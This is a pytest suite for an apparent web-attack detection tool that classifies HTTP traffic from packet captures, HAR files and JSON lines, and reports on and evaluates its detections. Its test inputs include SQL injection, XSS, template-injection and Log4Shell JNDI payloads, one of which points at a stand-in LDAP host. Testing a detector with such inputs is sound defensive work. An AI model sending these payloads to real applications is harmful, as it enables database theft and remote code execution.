"""The command line, as it was installed."""

import base64
import gzip
import json
import os
import pty
import signal
import subprocess
import sys
from pathlib import Path

import packets
import pytest
from conftest import ANSWER, ATTACK, COMMAND, PLAIN

import sidewatch

TARGET = "/item?id=1'+union+select+name,password+from+users--"
LINES = [
    {
        "id": "a-1",
        "method": "GET",
        "target": TARGET,
        "headers": [["Host", "shop.example"]],
        "label": "unused",
    },
    {"method": "GET", "target": "/"},
    {
        "method": "POST",
        "target": "/",
        "headers": [],
        "body_b64": base64.b64encode(b"q=<script>alert(1)</script>").decode(),
    },
    {"method": "POST", "target": "/", "body": "q={{7*7}}{{config.items()}}", "body_b64": None},
]


def har(*entries: dict) -> str:
    return json.dumps({"log": {"version": "1.2", "creator": {"name": "t"}, "entries": list(entries)}}, indent=1)


def entry(url: str, method: str = "GET", **more) -> dict:
    request = {
        "method": method,
        "url": url,
        "httpVersion": "HTTP/1.1",
        "headers": [{"name": "A", "value": "b"}],
    }
    return {
        "startedDateTime": "2026-01-02T03:04:05.678Z",
        "request": request | more,
        "response": {"status": 404, "content": {"text": '"entries": ['}},
    }


def jsonl(records) -> str:
    return "".join(f"{json.dumps(r)}\n" for r in records)


def events(done: subprocess.CompletedProcess) -> list[dict]:
    return [json.loads(line) for line in done.stdout.splitlines()]


def test_version_and_help(run):
    assert run("--version", status=0).stdout.decode().strip() == f"sidewatch {sidewatch.__version__}"
    top = run("--help", status=0).stdout.decode()
    for command in ("scan", "inspect", "eval", "mutate", "transactions"):
        assert f"\n  {command} " in top
        text = run(command, "--help", status=0).stdout.decode()
        assert "Examples:" in text and "Exit status:" in text


# scan


@pytest.mark.parametrize("gz", [False, True])
@pytest.mark.parametrize(
    ("content", "kind", "requests"),
    [
        (packets.pcap(packets.talk(ATTACK, ANSWER, PLAIN, ANSWER)), "pcap", 2),
        (packets.pcapng(packets.talk(ATTACK, ANSWER, PLAIN, ANSWER)), "pcapng", 2),
        (har(entry(f"http://shop.example{TARGET}"), entry("http://shop.example/")), "HAR", 2),
        (jsonl(LINES[:2]), "JSON lines", 2),
        (PLAIN + ATTACK + b"\r\n" + PLAIN, "raw HTTP", 3),
    ],
)
def test_every_kind_is_told_by_its_content(run, write, validate, content, kind, requests, gz):
    done = run("scan", write("no-name", content, gz=gz), status=1)
    (event,) = events(done)
    validate(event)
    assert event["classes"] == ["sqli"] and event["request"]["target"] == TARGET
    summary = done.stderr.decode()
    assert f"no-name: {kind}, {requests} requests" in summary
    assert f"{requests} requests: 1 attack (sqli 1), 0 suspicious" in summary


def test_json_lines_in_all_forms(run, write):
    done = run("scan", write("r.jsonl", jsonl(LINES)), "--all", status=1)
    got = events(done)
    assert [e["classes"] for e in got] == [["sqli"], [], ["xss"], ["ssti"]]
    assert got[0]["id"] == "a-1" and "id" not in got[1]


def test_har_in_all_forms(run, write):
    text = har(
        entry("https://ann:pw@shop.example:8443/a#b"),
        entry("https://shop.example", headers=[{"name": ":path", "value": "/from-h2?x"}], httpVersion="h2"),
        entry("https://shop.example/p", "POST", postData={"mimeType": "", "text": "q=<script>alert(1)</script>"}),
        entry("https://shop.example/p", "POST", postData={"params": [{"name": "q", "value": "' or 1=1--"}]}),
    )
    got = events(run("scan", "--all", write("x", text), status=1))
    assert [e["request"]["target"] for e in got] == ["/a", "/from-h2?x", "/p", "/p"]
    assert [e["request"]["host"] for e in got] == ["shop.example:8443", *["shop.example"] * 3]
    assert [e["classes"] for e in got] == [[], [], ["xss"], ["sqli"]]
    assert got[0]["time"] == "2026-01-02T03:04:05.678000Z" and got[0]["response"]["status"] == 404
    assert got[1]["request"]["version"] == "HTTP/2"


def test_nothing_found(run, write):
    done = run("scan", write("r", PLAIN), status=0)
    assert done.stdout == b"" and b"1 request: 0 attacks" in done.stderr
    assert run("scan", "-q", write("r", PLAIN), status=0).stderr == b""
    empty = write("empty.pcap", packets.pcap([]))
    assert b"0 requests" in run("scan", empty, status=0).stderr


def test_all_transactions(run, capture):
    assert [e["verdict"] for e in events(run("scan", "--all", capture, status=1))] == ["attack", "pass"]


def test_formats(run, capture):
    line = run("scan", capture, status=1).stdout
    listed = run("scan", "--format", "json", capture, status=1).stdout
    assert json.loads(listed) == [json.loads(line)]
    assert json.loads(run("scan", "--format", "json", capture, "--policy", no_sqli(capture), status=0).stdout) == []
    table = run("scan", "--format", "table", capture, status=1).stdout.decode()
    assert "sqli" in table and "query.id" in table and packets.CLIENT in table


def no_sqli(capture):
    path = capture.with_name("policy.toml")
    path.write_text('[detection]\ndisabled = ["sqli"]\n')
    return path


def test_a_terminal_gets_a_table(capture):
    ours, theirs = pty.openpty()
    command = [COMMAND, "scan", capture]
    with subprocess.Popen(command, stdout=theirs, stderr=subprocess.DEVNULL, env=os.environ | {"TERM": "xterm"}) as p:
        os.close(theirs)
        shown = b""
        try:
            while piece := os.read(ours, 65536):
                shown += piece
        except OSError:  # the other end is closed
            pass
    assert p.returncode == 1 and b"sqli" in shown and b'"schema"' not in shown


def test_output_goes_to_a_file_when_it_is_whole(run, capture, tmp_path):
    out = tmp_path / "events.jsonl"
    out.write_text("old")
    done = run("scan", capture, "-o", out, status=1)
    assert done.stdout == b"" and json.loads(out.read_text())["verdict"] == "attack"
    table = tmp_path / "events.txt"
    run("scan", capture, "-o", table, "--format", "table", status=1)
    assert "sqli" in table.read_text()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["events.jsonl", "events.txt", "traffic.pcap"]
    failed = run("scan", capture, "-o", tmp_path / "no/where", status=2)
    assert b"cannot write" in failed.stderr and b"No such file" in failed.stderr


def test_a_cut_capture_is_partial(run, write):
    whole = packets.pcap(packets.talk(ATTACK, ANSWER, PLAIN, ANSWER))
    done = run("scan", write("cut.pcap", whole[:-3]), status=3)
    assert len(events(done)) == 1
    assert f"cut.pcap: the capture ends inside a record that begins at byte {len(whole) - 70}" in done.stderr.decode()


def test_a_cut_archive_is_partial(run, write):
    path = write("cut.pcap.gz", gzip.compress(packets.pcap(packets.talk(ATTACK, ANSWER) * 50))[:-30])
    done = run("scan", path, status=3)
    assert b"warning: " in done.stderr and b"cut.pcap.gz" in done.stderr
    lines = gzip.compress(jsonl(LINES * 3000).encode())
    done = run("scan", write("cut.jsonl.gz", lines[: len(lines) // 2]), "-q", status=3)
    assert len(events(done)) > 100 and b"the compressed data ends early, at byte" in done.stderr


def test_a_cut_har_is_partial(run, write):
    text = har(*[entry(f"http://shop.example{TARGET}")] * 2000)
    done = run("scan", write("cut.har", text[:-1000]), status=3)
    assert 1990 < len(events(done)) < 2000
    last = text[:-1000].rindex('{\n    "startedDateTime"')
    assert f"the entry at byte {last} cannot be read" in done.stderr.decode()
    assert b"before its entries" in run("scan", write("cut.har", '{"log": {"version": '), status=3).stderr


def test_bad_lines_are_skipped_and_told(run, write):
    bad = [
        b"{",
        b'{"method": "GET", "target": 1}',
        b"[1]",
        b'{"method":"GET","target":"/","headers":[["a"]]}',
    ]
    bad += [b'{"method":"GET","target":"/","body_b64":"!"}', b"\xff", b"[" * 100_000]
    first = json.dumps(LINES[0]).encode()
    done = run("scan", write("r.jsonl", b"\n".join([first, *bad, b"", first])), status=3)
    assert len(events(done)) == 2
    told = done.stderr.decode()
    assert f"line 2 at byte {len(first) + 1} is no request" in told
    assert "'target' is missing or no text" in told and "'body_b64' is no base64" in told
    many = run("scan", write("r.jsonl", b"\n".join([first, *[b"{"] * 25])), status=3)
    assert b"and 15 more of this kind" in many.stderr


def test_an_unknown_kind_is_named_and_the_rest_goes_on(run, write, capture):
    unknown = write("picture.pcap", b"\x89PNG\r\n\x1a\n" + bytes(50))
    done = run("scan", unknown, status=2)
    told = done.stderr.decode()
    assert "picture.pcap: unknown kind of file" in told and "\\x89PNG" in told and "expected pcap, pcapng, HAR" in told
    done = run("scan", unknown, "missing", capture.parent, write("empty", ""), capture, status=3)
    told = done.stderr.decode()
    assert len(events(done)) == 1
    assert "missing: No such file" in told and "Is a directory" in told and "empty: the file is empty" in told


@pytest.mark.parametrize(
    "content", [b'{"a": 1}\n', b"127.0.0.1 - - [01/Jan/2026] GET", b"\x1f\x8b", b"{", b"HTTP/1.1 200 OK"]
)
def test_other_unknown_kinds(run, write, content):
    assert b"warning: " in run("scan", write("x", content), status=2).stderr


@pytest.mark.parametrize(
    ("arguments", "text"),
    [
        ([], "Missing argument"),
        (["x", "--format", "xml"], "Invalid value"),
        (["x", "--policy", "nowhere.toml"], "does not exist"),
        (["x", "--sensitivity", "loud"], "Invalid value"),
    ],
)
def test_wrong_usage(run, arguments, text):
    assert text in run("scan", *arguments, status=2).stderr.decode()


def test_a_bad_policy_is_refused_with_its_place(run, write, capture):
    done = run("scan", capture, "--policy", write("bad.toml", "[detection]\nsensitivity = 1\n"), status=2)
    assert b"bad.toml: policy line 2, column 15" in done.stderr and done.stdout == b""
    done = run("scan", capture, "--policy", write("bad.toml", b"\xff"), status=2)
    assert b"bad.toml: " in done.stderr


def test_a_reader_that_goes_away(write):
    path = write("many.jsonl", jsonl([LINES[0]] * 20_000))
    with subprocess.Popen([COMMAND, "scan", path], stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        process.stdout.readline()
        process.stdout.close()
        told = process.stderr.read()
    assert process.returncode == 141 and b"Traceback" not in told and b"BrokenPipe" not in told


def test_results_that_cannot_be_written(run, capture):
    done = run("scan", capture, "-o", "/dev/full", status=2)
    assert b"cannot write: No space left" in done.stderr
    with Path("/dev/full").open("wb") as full:
        done = subprocess.run([COMMAND, "scan", capture], stdout=full, stderr=subprocess.PIPE)
    assert done.returncode == 2 and b"cannot write: No space left" in done.stderr and b"Traceback" not in done.stderr


def test_an_interrupt_looks_like_no_result(tmp_path):
    pipe, out = tmp_path / "pipe", tmp_path / "out"
    os.mkfifo(pipe)
    # A job in the background of a script inherits that interrupts are ignored.
    process = subprocess.Popen(
        [COMMAND, "scan", pipe, "-o", out],
        stderr=subprocess.PIPE,
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.default_int_handler),
    )
    with process, pipe.open("wb") as end:  # opened once the command reads
        end.write(ATTACK)
        end.flush()
        process.send_signal(signal.SIGINT)
        told = process.stderr.read()
    assert process.returncode == 130 and told == b"interrupted\n"
    assert sorted(p.name for p in tmp_path.iterdir()) in (["pipe"], ["out", "pipe"])


def test_an_interrupt_just_before_input_is_waited_for_is_noticed(tmp_path):
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    # A signal to another thread is noted by the interpreter and breaks no call of the main thread off, as one that comes
    # before the call does not.
    program = f"""
import signal, threading, time
from sidewatch.cli import main

def interrupt():
    end = open({str(pipe)!r}, "wb", buffering=0)
    end.write({ATTACK!r})
    time.sleep(0.5)
    signal.raise_signal(signal.SIGINT)
    time.sleep(60)

signal.signal(signal.SIGINT, signal.default_int_handler)
threading.Thread(target=interrupt, daemon=True).start()
main()
"""
    done = subprocess.run([sys.executable, "-c", program, "scan", pipe], stderr=subprocess.PIPE, timeout=30)
    assert done.returncode == 130 and done.stderr == b"interrupted\n"


# inspect


def test_inspect_explains(run):
    done = run("inspect", stdin=ATTACK, status=1)
    text = done.stdout.decode()
    for part in (
        "verdict: attack",
        "sqli by union-select, CWE-89",
        "critical",
        "query.id",
        "UNION SELECT",
        "gain",
    ):
        assert part in text, part
    assert b"verdict: pass" in run("inspect", "-", stdin=PLAIN, status=0).stdout
    garbage = run("inspect", stdin=b"\x00\x01\xffhello", status=0).stdout.decode()
    assert "(no request line)" in garbage and "not_http" in garbage


def test_inspect_in_curls_spelling(run, write):
    write("body.txt", b'{"q":"<script>\nalert(1)</script>"}')
    for arguments, method, point in (
        (
            ["-X", "PUT", "-H", "Content-Type: application/json", "-d", '{"a":"1\' or 1=1--"}', "http://h/x"],
            "PUT",
            "body.json.a",
        ),
        (["--url", "http://h/x", "-d", "a=1", "-d", "b=' or 1=1--"], "POST", "body.form.b"),
        (["-d", "@body.txt", "h/x", "-H", "content-type: application/json"], "POST", "body.json.q"),
        (["--data-binary", "@body.txt", "-H", "Content-Type:application/json", "/x"], "POST", "body.json.q"),
        (["--data-raw", "@=' or 1=1--", "/x"], "POST", "body.form.@"),
        (["-b", "sid=1' or 1=1--", "http://h/"], "GET", "cookie.sid"),
        (["-A", "${jndi:ldap://a.example/x}", "http://h/"], "GET", "header.user-agent"),
        (["http://h/?q=' or 1=1--"], "GET", "query.q"),
        (["/?q=' or 1=1--"], "GET", "query.q"),
        (["?q=' or 1=1--"], "GET", "query.q"),
    ):
        told = json.loads(run("inspect", "--format", "json", *arguments, status=1).stdout)
        assert told["request"]["method"] == method, arguments
        assert point in [f["point"] for f in told["findings"]], arguments


def test_inspect_reads_a_file(run, write):
    assert b"attack" in run("inspect", write("request.txt", ATTACK), status=1).stdout


def test_inspect_traces(run, validate):
    target = "/?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
    text = run("inspect", "--trace", target, status=1).stdout.decode()
    assert "query.q|base64  QueryValue, guessed, 25 bytes" in text and "script-element, 92 of 100 (97 less 5" in text
    told = json.loads(run("inspect", "--trace", "--format", "json", target, status=1).stdout)
    validate(told["event"])
    assert any(s["hits"] and s["hits"][0]["class"] == "xss" for s in told["trace"])
    (step,) = (s for s in told["trace"] if s["point"] == "query.q|base64")
    looks = {look["class"]: look for look in step["looks"]}
    assert looks["xss"]["outcome"] == "attack" and looks["xss"]["tokens"] == "<script > alert ( number )"
    assert looks["crlf"]["outcome"] == "not_woken" and "line end" in looks["crlf"]["reason"]
    assert looks["sqli"]["outcome"] == "silent" and looks["sqli"]["tokens"].startswith("<")
    nothing = run("inspect", "--trace", "/a", status=0).stdout.decode()
    assert "None of them said anything" in nothing and "path[0]" in nothing


@pytest.mark.parametrize(
    ("arguments", "text"),
    [
        (["neither"], "is no file, and no URL or target"),
        (["-d", "a=1"], "the URL is missing"),
        (["/", "--url", "/"], "not both"),
        (["-H", "nocolon", "/"], "has no colon"),
        (["-d", "@nowhere", "/"], "nowhere: No such file"),
        ([], "the standard input is empty"),
    ],
)
def test_inspect_wrong_usage(run, arguments, text):
    assert text in run("inspect", *arguments, status=2).stderr.decode()


# eval


def labelled() -> list[dict]:
    common = {"source": "made", "label": "malicious", "class": "sqli"}
    return [
        {"id": "m1", **common, "method": "GET", "target": TARGET},
        {"id": "m2", **common, "class": "xss", "method": "GET", "target": TARGET},
        {"id": "m3", **common, "weak": True, "method": "GET", "target": "/"},
        {"id": "m4", **common, "class": "other", "method": "GET", "target": TARGET},
        {"id": "n1", **common, "source": "loud", "noisy": True, "method": "GET", "target": "/"},
        {
            "id": "b1",
            **common,
            "source": "good",
            "label": "benign",
            "class": "none",
            "method": "GET",
            "target": "/",
        },
        {
            "id": "b2",
            **common,
            "source": "good",
            "label": "benign",
            "class": "none",
            "method": "GET",
            "target": TARGET,
        },
    ]


def test_eval_tells_rates(run, write, tmp_path):
    done = run("eval", write("c.jsonl.gz", jsonl(labelled()), gz=True), "--verdicts", "v.jsonl", status=0)
    rows = [line.split() for line in done.stdout.decode().splitlines()]
    assert ["made", "4", "3", "75.00", "100.00", "50.00", "50.00"] in rows
    assert ["loud", "1", "0", "0.00", "0.00", "-", "-"] in rows
    assert ["good", "2", "1", "50.00"] in rows
    assert ["sqli", "2", "1", "50.00", "100.00", "100.00", "100.00"] in rows
    assert ["xss", "1", "1", "100.00", "100.00", "0.00", "0.00"] in rows
    assert ["other", "1", "1", "100.00", "100.00", "-", "-"] in rows
    assert "Mean over sources: TPR* 100.00 %, FPR 50.00 %" in done.stdout.decode()
    verdicts = [json.loads(line) for line in (tmp_path / "v.jsonl").read_text().splitlines()]
    assert [v["id"] for v in verdicts] == [r["id"] for r in labelled()]
    assert verdicts[0] == {"id": "m1", "attack": True, "classes": ["sqli"]}
    assert verdicts[2] == {"id": "m3", "attack": False, "classes": []}


def test_eval_names_techniques_that_corpora_call_classes(run, write, tmp_path):
    record = labelled()[0] | {"class": "log4shell", "headers": [["User-Agent", "${jndi:ldap://a.example/x}"]]}
    run("eval", write("c.jsonl", jsonl([record])), "--verdicts", "v.jsonl", status=0)
    assert {"rce", "log4shell"} <= set(json.loads((tmp_path / "v.jsonl").read_text())["classes"])


def test_inspect_tells_why_it_was_not_flagged(run, write):
    policy = write(
        "p.toml", '[detection]\ndisabled = ["mail"]\n[[exclusions]]\nclasses = ["sqli"]\npoint = "query.id"\n'
    )
    text = run("inspect", "--trace", "/?id=1'+or+3=3--+", "--policy", policy, status=0).stdout.decode()
    assert "tautology" in text and "excluded by the policy" in text
    assert "the policy turns this class off" in text and "holds none of" in text
    hint = " ".join(run("inspect", "--trace", "/?role=x&is_admin=1", status=0).stdout.decode().split())
    assert "a hint: an attack needs 50 at this sensitivity" in hint and "Read as: number" in hint
    assert "no attack, read as: name" in hint
    found = run("inspect", "/?id=1'+or+3=3--+", status=1).stdout.decode()
    assert "string-end or number = number comment" in found
    assert "see         CWE-89, CAPEC-66, OWASP A03:2021, A05:2025" in found


def test_eval_keeps_a_scoreboard(run, write, tmp_path):
    corpus, board = write("c.jsonl", jsonl(labelled())), tmp_path / "rates.json"
    run("eval", corpus, "--scoreboard", board, status=0)
    text = board.read_text()
    rates = json.loads(text)
    row = rates["attacks"]["made"]["sqli"]
    assert row["requests"] == 2 and row["default"] == {
        "TPR*": 100.0,
        "agreed": 100.0,
        "class": 100.0,
        "class agreed": 100.0,
        "pure": 100.0,
    }
    assert rates["legitimate"]["good"]["default"] == {"FPR": 50.0, "agreed": 50.0}
    assert sum(line.count('"requests"') > 1 for line in text.splitlines()) == 0, "one row a line"
    assert "loud" in rates["attacks"] and rates["attacks"]["*"]["sqli"]["requests"] == 2
    done = run("eval", corpus, "--check", board, status=0)
    assert b"No rate is worse" in done.stdout
    rates["attacks"]["made"]["xss"]["default"]["class"] = 90.0
    rates["legitimate"]["good"]["strict"]["FPR"] = 10.0
    board.write_text(json.dumps(rates))
    text = run("eval", corpus, "--check", board, status=1).stdout.decode()
    rows = [line.split() for line in text.splitlines()]
    assert ["made", "xss", "default", "class", "90.00", "0.00"] in rows
    assert ["good", "strict", "FPR", "10.00", "50.00"] in rows
    part = write("part.jsonl", jsonl(r for r in labelled() if r["label"] == "malicious"))
    done = run("eval", part, "--check", board, status=1)
    assert b"not judged, so not compared: good" in done.stderr and b"made xss" in done.stdout
    assert b"is no scoreboard" in run("eval", corpus, "--check", write("x.json", "{}"), status=2).stderr


def test_eval_fills_the_tables_of_a_page(run, write):
    corpus = write("c.jsonl", jsonl(labelled()))
    page = write("page.md", "before\n<!-- scoreboard: begin -->\nold\n<!-- scoreboard: end -->\nafter\n")
    run("eval", corpus, "--tables", page, status=0)
    text = page.read_text()
    assert text.startswith("before\n") and text.endswith("\nafter\n") and "old" not in text
    assert "| made | 4 | 100.00 | 100.00 | 100.00 | 100.00 | 50.00 | 50.00 | 50.00 |" in text
    assert "| good | 2 | 50.00 | 50.00 | 50.00 | 50.00 |" in text
    bare = write("bare.md", "nothing")
    assert b"scoreboard: begin" in run("eval", corpus, "--tables", bare, status=1).stderr


def test_eval_reads_what_is_left(run, write, tmp_path):
    corpus, folder, board = write("c.jsonl", jsonl(labelled())), tmp_path / "left", tmp_path / "rates.json"
    folder.mkdir()
    wrong = [r["id"] for r in labelled() if r["source"] == "good"][-1]
    (folder / "sqli.tsv").write_text(f"id\tjudged\treason\nm1\tmissed\tnot any more\n{wrong}\twrong-label\tan attack\n")
    text = run("eval", corpus, "--left", folder, status=0).stdout.decode()
    assert "1 request listed, but judged as labelled now: take these lines out:\n  missed 1: m1\n" in text
    rows = [line.split() for line in text.splitlines()]
    assert ["good", "2", "1", "50.00", "0.00"] in rows, "the disputed request is not in the agreed rate"
    (folder / "sqli.tsv").write_text("id\tjudged\treason\n")
    text = run("eval", corpus, "--left", folder, status=0).stdout.decode()
    assert "judged other than labelled, and in no list:\n" in text and f"  legitimate 1: {wrong}\n" in text
    (folder / "xss.tsv").write_text("id\tjudged\treason\nm2\tother-class\tSQL\nm1\tother-class\tit is named\n")
    text = run("eval", corpus, "--left", folder, "--scoreboard", board, status=0).stdout.decode()
    assert "take these lines out:\n  other-class 1: m1\n" in text
    row = json.loads(board.read_text())["attacks"]["made"]
    assert row["xss"]["default"]["class"] == 0.0 and row["xss"]["default"]["class agreed"] is None
    assert row["*"]["default"]["class"] == 50.0 and row["*"]["default"]["class agreed"] is None
    for line, complaint in (("m1\tmaybe\tx", "judged is 'maybe'"), ("m1\tmissed", "expected 3 columns")):
        (folder / "sqli.tsv").write_text(f"id\tjudged\treason\n{line}\n")
        done = run("eval", corpus, "--left", folder, status=2)
        assert f"sqli.tsv line 2: {complaint}".encode() in done.stderr


def test_eval_of_bad_input(run, write):
    good = jsonl(labelled())
    done = run("eval", write("c.jsonl", f'{good}{{"id": "x", "method": "GET", "target": "/"}}\n'), status=3)
    assert f"line 8 at byte {len(good)} is no labelled request: the field 'label' is missing" in done.stderr.decode()
    assert run("eval", "missing", status=2).stdout == b""


# transactions


def test_transactions_are_listed(run, capture, write):
    half = write("half.pcap", packets.pcap(packets.talk(b"", ANSWER)[3:]))
    done = run("transactions", capture, half, "--format", "jsonl", status=0)
    whole, cut = events(done)
    assert whole["pcap"] == "traffic.pcap"
    assert whole["tx"] == [
        {"method": "GET", "target": TARGET, "host": "shop.example", "status": 200},
        {"method": "GET", "target": "/basket?page=2", "host": "shop.example", "status": 200},
    ]
    assert cut == {"pcap": "half.pcap", "tx": [{"method": None, "target": None, "host": None, "status": 200}]}


def test_bytes_that_are_no_message_are_no_transaction(run, write):
    path = write("x.pcap", packets.pcap(packets.talk(PLAIN + b"\x00\x01\x02 junk\r\n\r\n", ANSWER)))
    (line,) = events(run("transactions", path, status=0))
    assert [tx["target"] for tx in line["tx"]] == ["/basket?page=2"]


def test_transactions_with_bodies(run, write):
    body = gzip.compress(b"hello world")
    answer = b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)
    request = b"POST /x HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n"
    path = write("b.pcap", packets.pcap(packets.talk(request, answer) + packets.talk(request, port=2)))
    (line,) = events(run("transactions", "--bodies", path, status=0))
    first, second = line["tx"]
    assert base64.b64decode(first["request_body_b64"]) == b"abc"
    assert base64.b64decode(first["response_body_b64"]) == b"hello world"
    assert second["response_body_b64"] is None and second["status"] is None


def test_transactions_of_bad_input(run, write, capture):
    cut = write("cut.pcap", capture.read_bytes()[:-3])
    done = run("transactions", cut, status=3)
    assert len(events(done)[0]["tx"]) == 2 and b"cut.pcap: the capture ends inside a record" in done.stderr
    done = run("transactions", write("text", "hello"), "missing", capture, status=3)
    assert [line["pcap"] for line in events(done)] == ["traffic.pcap"]
    assert b"not a capture" in done.stderr and b"missing: No such file" in done.stderr
    assert run("transactions", "missing", status=2).stdout == b""
